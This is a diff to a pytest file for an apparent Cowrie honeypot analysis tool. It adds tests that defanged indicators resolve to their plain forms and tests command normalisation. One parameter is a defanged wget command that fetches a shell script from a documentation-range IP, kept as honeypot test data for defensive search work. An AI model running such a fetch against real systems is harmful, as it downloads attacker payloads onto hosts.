@@ -7,6 +7,7 @@ from urllib.parse import urlsplit
 import pytest
 from sqlalchemy import text
 
+from cowrie_assets.cowrie.normalize import normalize_command
 from cowrie_assets.finding import find as module
 from cowrie_assets.finding.find import Found, document_of, find, masks_of_passwords
 from cowrie_assets.finding.readings import Kind, ReadingError
@@ -85,6 +86,39 @@ def test_every_text_that_was_seen(warehouse: Warehouse, made: list[Made]) -> Non
     session = made[0]
     alike = [each for each in made if each.session_id == session.session_id]
     _agrees(_one(warehouse, session.session_id, Kind.SESSION), alike)
+
+
+@pytest.mark.parametrize(
+    ("value", "plain", "kind"),
+    [
+        ("hxxp://203[.]0[.]113[.]66/a.sh", URLS[0], Kind.URL),
+        ("HXXP[:]//203[.]0[.]113[.]66/a.sh", URLS[0], Kind.URL),
+        ("203.0.113[.]66", "203.0.113.66", Kind.HOST),
+        ("192[.]0[.]2[.]7", "192.0.2.7", Kind.ADDRESS),
+        ("192[.]0[.]2[.]0/24", "192.0.2.0/24", Kind.NETWORK),
+        ("wget hxxp://203[.]0[.]113[.]66/a.sh", COMMANDS[2], Kind.COMMAND),
+    ],
+)
+def test_what_reports_defang_is_found_as_it_stands_there(
+    warehouse: Warehouse, value: str, plain: str, kind: Kind
+) -> None:
+    found = _one(warehouse, value, kind)
+    assert found is not None
+    assert found == _one(warehouse, plain, kind)
+
+
+def test_the_normal_form_of_commands(warehouse: Warehouse, made: list[Made], monkeypatch: pytest.MonkeyPatch) -> None:
+    for command in COMMANDS:
+        form = normalize_command(command)
+        sessions = [each for each in made if normalize_command(each.command) == form]
+        found = _one(warehouse, form, Kind.NORMAL_FORM)
+        _agrees(found, sessions)
+        assert found is not None
+        assert _count(found, "commands") == Counter(each.command for each in sessions)
+    monkeypatch.setattr(module, "LOOKED_THROUGH_FOR_FORM", 3)
+    cut = _one(warehouse, normalize_command(COMMANDS[1]), Kind.NORMAL_FORM)
+    assert cut is not None
+    assert (cut.sessions.at_least, cut.exact_days) == (True, True)
 
 
 @pytest.mark.parametrize("technique", ["T1098.004", "t1098", "T1078"])
